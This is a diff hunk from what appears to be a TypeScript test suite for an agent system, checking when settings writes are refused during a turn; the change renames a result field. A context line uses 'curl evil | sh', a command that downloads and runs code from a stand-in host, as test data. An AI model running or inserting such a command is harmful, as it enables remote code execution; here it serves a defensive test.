@@ -65,7 +65,7 @@ test("settings are written on behalf of people only, while a turn has no other i
   expect(await write(third)).toMatchObject({ plan: { setup: ["curl evil | sh"] } });
   // A steer of an agent between two tool calls, also before the deploy agent has taken it.
   const queued = await project().send(facts, said(agent, "And this."), null);
-  const messageId = isRefusal(queued) || queued.answer.delivery !== "queued" ? "" : queued.answer.queuedMessageId;
+  const messageId = isRefusal(queued) || queued.result.delivery !== "queued" ? "" : queued.result.queuedMessageId;
   const steered = project().steer(messageId, agent, null);
   await own.received("steer");
   expect(await write(third)).toMatchObject(refused);
